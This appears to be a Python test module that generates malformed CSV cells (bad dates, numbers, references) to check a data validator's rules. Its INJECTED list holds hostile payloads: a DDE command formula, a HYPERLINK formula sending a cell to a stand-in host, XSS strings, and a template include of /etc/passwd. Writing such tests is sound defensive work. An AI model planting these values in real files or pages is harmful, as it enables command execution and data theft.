"""Cells that are not what their column asks for, each in one row of a file that is otherwise clean."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from tests.faults.fault import CATALOGUE, PLAIN, Fault, Row, bad_row, csv_text, table_with, written

NO_DAY = {"MAP-003": 1, "DAT-002": 1}
"""A record without a day cannot be counted in any year: it is refused, and both rules say why."""

DATES: Mapping[str, tuple[str, Mapping[str, int]]] = {
    "31 February": ("31/02/2024", NO_DAY),
    "a day of zeros": ("00/00/0000", NO_DAY),
    "a year of five digits": ("01/03/12024", NO_DAY),
    "a day as a spreadsheet counts it": ("45352", NO_DAY),
    "a day and an hour as a spreadsheet counts them": ("45352.75", NO_DAY),
    "month and day the other way round": ("03/25/2024", NO_DAY),
    "a year of two digits": ("01/03/24", NO_DAY),
    "a day with a time and a zone": ("2024-03-01T23:59:59+05:00", {}),
    "an hour that there is not": ("01/03/2024 99:99", {}),
    "the first day that a spreadsheet knows": ("01/01/1900", {}),
    "a day after all others": ("31/12/9999", {"DAT-001": 1}),
    "a day of another alphabet": ("٠١/٠٣/٢٠٢٤", NO_DAY),
    "a day with a formula": ("=DATE(2024,3,1)", NO_DAY),
    "words for a day": ("yesterday, about noon", NO_DAY),
}
NO_NUMBER = {"MAP-004": 1}
NUMBERS = {
    **dict.fromkeys(
        (
            "<5",
            "(12)",
            "[c]",
            "1e400",
            "NaN",
            "inf",
            "-Infinity",
            "12%",
            "٣",
            "３４",
            "0x10",
            "1_000",
            "34.5",
        ),
        NO_NUMBER,
    ),
    **dict.fromkeys(("1,234", "-1", "9" * 400, "1" + ",000" * 99, "1e2", "−5", "½", "34 years"), NO_NUMBER),
    **{text: {} for text in ("-0", "+34", "34.000", "034")},
}
IDS: Mapping[str, tuple[str, Mapping[str, int]]] = {
    "a reference as a spreadsheet shortens it": ("1.23E+11", {"MAP-006": 1, "LNK-001": 1}),
    "no reference": ("", {"LNK-001": 1}),
    "a reference of a no-break space": ("\u00a0", {"LNK-001": 1}),
    "a reference of characters without width": ("\u200b\ufeff", {"LNK-001": 1, "MAP-001": 1}),
    "a reference that is an error": ("#REF!", {"MAP-002": 1, "LNK-001": 1}),
}

INJECTED = {
    "a command": "=cmd|'/c calc'!A0",
    "a sum": "+1+1",
    "an old function": "@SUM(1+1)",
    "a difference": "-2+3",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r=1+1",
    "a link": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "a template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
}


def _of_one_cell(family: str, name: str, cells: Mapping[str, str], rules: Mapping[str, int]) -> None:
    def make(folder: Path) -> Path:
        return written(folder / "kent.csv", csv_text(table_with(bad_row(**cells))))

    CATALOGUE.append(Fault(name, family, make, PLAIN, rules=rules))


def _of_a_code(name: str, text: str) -> None:
    """Three rows with the same text, so that it looks like an entry of a list, and a header of the same."""

    def make(folder: Path) -> Path:
        bad: list[Row] = [
            bad_row(Crime_Ref=f"RX/{place}/24", Vic_sex=text, Outcome=text) for place in (91, 92, 93)
        ]
        header = (*table_with()[0][:-1], f"{text} notes")
        return written(folder / "kent.csv", csv_text(table_with(*bad, header=header)))

    CATALOGUE.append(Fault(f"{name} for a code and a header", "injection", make, rules={"MAP-001": 6}))


for name, (text, rules) in DATES.items():
    _of_one_cell("dates", name, {"Recorded": text}, rules)
for text, rules in NUMBERS.items():
    shown = text if len(text) < 20 else f"{text[:8]}..."
    _of_one_cell("numbers", f"the number {shown}", {"Vic_age": text}, rules)
for name, (text, rules) in IDS.items():
    _of_one_cell("references", name, {"Crime_Ref": text}, rules)
for name, text in INJECTED.items():
    _of_a_code(name, text)
